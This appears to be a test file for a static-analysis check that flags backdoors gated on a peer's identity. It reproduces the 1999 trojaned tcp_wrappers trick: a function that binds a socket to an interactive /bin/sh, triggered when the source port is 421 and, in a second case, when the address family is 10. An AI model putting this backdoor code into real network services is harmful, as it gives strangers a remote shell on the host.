// RUN: %run-both --checks=backdoor-trusted-identity %s -- | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// A peer's source port is part of its address, however small the number
// (the trojaned tcp_wrappers 7.6 of January 1999, CERT CA-1999-01: a root
// shell for connections from port 421).
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <stdlib.h>
#include <unistd.h>
static void spawn_shell(int fd) {
  dup2(fd, 0);
  dup2(fd, 1);
  execl("/bin/sh", "sh", "-i", (char *)0);
}
void log_client(int port);

int hosts_ctl(int fd) {
  struct sockaddr_in sin;
  socklen_t len = sizeof sin;
  if (getpeername(fd, (struct sockaddr *)&sin, &len) != 0) return 0;
  // ruleid: backdoor-trusted-identity
  if (ntohs(sin.sin_port) == 421) {
    // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: access depends on the peer identity from 'getpeername' equalling the constant 421: only then the code reaches 'spawn_shell'{{.*}}[backdoor-trusted-identity]
    spawn_shell(fd);
    return 0;
  }
  // ok: backdoor-trusted-identity
  if (ntohs(sin.sin_port) == 1023) log_client(1023);
  return 1;
}

// A small number that is no port (the address family) counts for nothing.
int family_ctl(int fd) {
  struct sockaddr_in sin;
  socklen_t len = sizeof sin;
  if (getpeername(fd, (struct sockaddr *)&sin, &len) != 0) return 0;
  // ok: backdoor-trusted-identity
  if (sin.sin_family == 10) spawn_shell(fd);
  return 1;
}
